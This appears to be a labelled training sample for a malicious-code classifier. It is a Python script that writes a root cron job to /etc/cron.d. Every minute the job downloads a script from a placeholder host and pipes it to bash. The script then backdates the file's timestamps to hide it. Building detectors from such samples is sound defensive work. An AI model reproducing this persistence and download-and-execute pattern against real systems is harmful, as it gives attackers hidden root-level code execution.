# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
entry = "* * * * * root (curl -s http://update.example.invalid/k || wget -q -O- http://update.example.invalid/k) | bash\n"
with open("/etc/cron.d/sysupdate", "w") as f:
    f.write("SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n")
    f.write(entry)
os.chmod("/etc/cron.d/sysupdate", 0o644)
os.utime("/etc/cron.d/sysupdate", (1262304000, 1262304000))
